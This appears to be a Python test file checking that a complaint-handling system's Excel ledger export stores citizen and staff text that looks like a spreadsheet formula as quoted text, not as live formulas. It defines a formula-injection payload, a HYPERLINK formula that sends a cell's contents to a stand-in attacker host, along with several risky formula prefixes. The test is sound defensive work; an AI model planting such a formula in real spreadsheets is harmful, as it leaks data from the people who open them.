"""A citizen's words that look like a spreadsheet formula reach the Excel ledgers as text, never as a formula."""
import io

from openpyxl import load_workbook

from jiandu.spreadsheet import LedgerSheet

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看详情")'


def _move(api, case_id, action, **fields):
    version = api.get(f"/api/v1/cases/{case_id}").get_json()["version"]
    response = api.post(f"/api/v1/cases/{case_id}/actions/{action}", json={"version": version, **fields})
    assert response.status_code == 200, response.get_json()


def test_a_citizens_formula_reaches_the_case_ledger_as_text(submit, staff, window):
    body = submit(window, kind="report", category="attitude", description=FORMULA).get_json()
    inspector, admin = staff("inspector"), staff("admin")
    # The inspector keeps the citizen's own words as the summary; an admin's point name starts with "@".
    _move(inspector, body["case_id"], "register", case_type="work_style", category="attitude", severity="normal",
          summary=FORMULA)
    assert admin.patch(f"/api/v1/points/{window.id}", json={"name": "@SUM(1,2)号窗口"}).status_code == 200

    response = inspector.get("/api/v1/cases/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == body["case_number"]]
    summary, point = row[6], row[9]
    assert (summary.value, summary.data_type, summary.quotePrefix) == (FORMULA, "s", True)
    assert (point.value, point.data_type, point.quotePrefix) == ("@SUM(1,2)号窗口", "s", True)
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


def test_every_text_a_spreadsheet_would_run_is_stored_as_quoted_text():
    risky = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    sheet = LedgerSheet("台账", ["=标题", "普通"], (10, 10))
    sheet.append([*risky[:2], "普通文字", 42])
    sheet.append(risky[2:])
    book = load_workbook(io.BytesIO(sheet.bytes())).active
    cells = [cell for line in book.iter_rows() for cell in line if cell.value is not None]
    quoted = [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells if cell.quotePrefix]
    # (XML reads a stored carriage return back as a line feed.)
    assert sorted(quoted) == sorted((text.replace("\r", "\n"), "s", True) for text in ["=标题", *risky])
    plain = {cell.value: cell.data_type for cell in cells if not cell.quotePrefix}
    assert plain == {"普通": "s", "普通文字": "s", 42: "n"}
